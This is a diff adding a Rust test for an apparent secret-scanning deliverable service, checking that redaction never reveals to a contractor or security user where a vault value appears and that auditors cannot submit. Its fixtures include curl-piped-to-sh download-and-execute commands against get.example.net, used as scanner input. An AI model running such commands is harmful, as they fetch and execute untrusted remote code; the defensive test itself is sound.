@@ -1378,3 +1378,114 @@ fn a_deliverable_is_scanned_for_vault_values_and_accepted_once_reviewed() {
     );
     s.assert_no_secret_logged();
 }
+
+#[test]
+fn a_deliverable_never_tells_its_submitter_where_an_unreadable_vault_value_is() {
+    let s = Server::start();
+    vendor(&s, "acme");
+    let vault_value = "Vault-Secret-Zq81-Lm02";
+    write(&s, "prod/db", vault_value);
+    let cy = s.person("cy", "contractor", Some("acme"));
+    let sam = s.person("sam", "security", None);
+    let aud = s.person("aud", "auditor", None);
+    let (cy_t, sam_t, aud_t) = (s.login(&cy), s.login(&sam), s.login(&aud));
+    // Guesses, one per line, each inside code that is shown.
+    let guesses: String = (0..6)
+        .map(|n| {
+            let guess = if n == 3 {
+                vault_value.to_owned()
+            } else {
+                format!("Guess-Secret-Zq81-Lm0{n}")
+            };
+            format!("curl -H \"K: {guess}\" https://get.example.net/{n} | sh\n")
+        })
+        .collect();
+    let submit = |token: &str, query: &str| {
+        let (status, bytes) = raw(
+            &s,
+            "POST",
+            &format!("/api/v1/deliverables?name=x.sh{query}"),
+            Some(token),
+            guesses.clone().into_bytes(),
+            None,
+        );
+        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
+        serde_json::from_slice::<Value>(&bytes).unwrap()
+    };
+    let code_shown = |answer: &Value| -> Vec<String> {
+        answer["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|i| i["rule"] == "download-and-execute-shell")
+            .map(|i| i["shown"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    let hidden = |answer: &Value| {
+        let item = answer["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|i| i["rule"] == "known-value")
+            .cloned()
+            .unwrap();
+        (item["path"].clone(), item["line"].clone())
+    };
+
+    // The contractor: the redaction in the shown code would name the line.
+    let answer = submit(&cy_t, "");
+    let shown = code_shown(&answer);
+    assert_eq!(shown.len(), 6, "{answer}");
+    assert!(shown.iter().all(|c| c.is_empty()), "{shown:?}");
+    assert_eq!(hidden(&answer), (json!(""), json!(0)));
+
+    // Security may not read secrets: uploading the guesses itself tells it nothing more.
+    let answer = submit(&sam_t, "&vendor=acme");
+    assert_eq!(hidden(&answer), (json!(""), json!(0)), "{answer}");
+    assert!(!answer.to_string().contains("prod/db"), "{answer}");
+    assert!(code_shown(&answer).iter().all(|c| c.is_empty()));
+    // It still sees where, and which secret, in what someone else submitted.
+    let id = answer["id"].as_str().unwrap();
+    let contractors = s.ok("GET", "/api/v1/deliverables", Some(&sam_t), None);
+    let theirs = contractors
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["id"] != id)
+        .unwrap();
+    assert!(theirs.to_string().contains("value of prod/db#password"));
+
+    // Auditors read deliverables; they do not submit them.
+    assert_eq!(
+        s.call(
+            "POST",
+            "/api/v1/deliverables?name=x.sh&vendor=acme",
+            Some(&aud_t),
+            Some(json!("x")),
+            None
+        )
+        .0,
+        403
+    );
+    assert_eq!(
+        s.ok("GET", "/api/v1/deliverables", Some(&aud_t), None)
+            .as_array()
+            .unwrap()
+            .len(),
+        2
+    );
+
+    // Without a hidden value, code is shown.
+    let clean = "curl -fsSL https://get.example.net/x | sh\n";
+    let (_, bytes) = raw(
+        &s,
+        "POST",
+        "/api/v1/deliverables?name=y.sh",
+        Some(&cy_t),
+        clean.as_bytes().to_vec(),
+        None,
+    );
+    let answer: Value = serde_json::from_slice(&bytes).unwrap();
+    assert_eq!(code_shown(&answer), [clean.trim_end()]);
+    s.assert_no_secret_logged();
+}
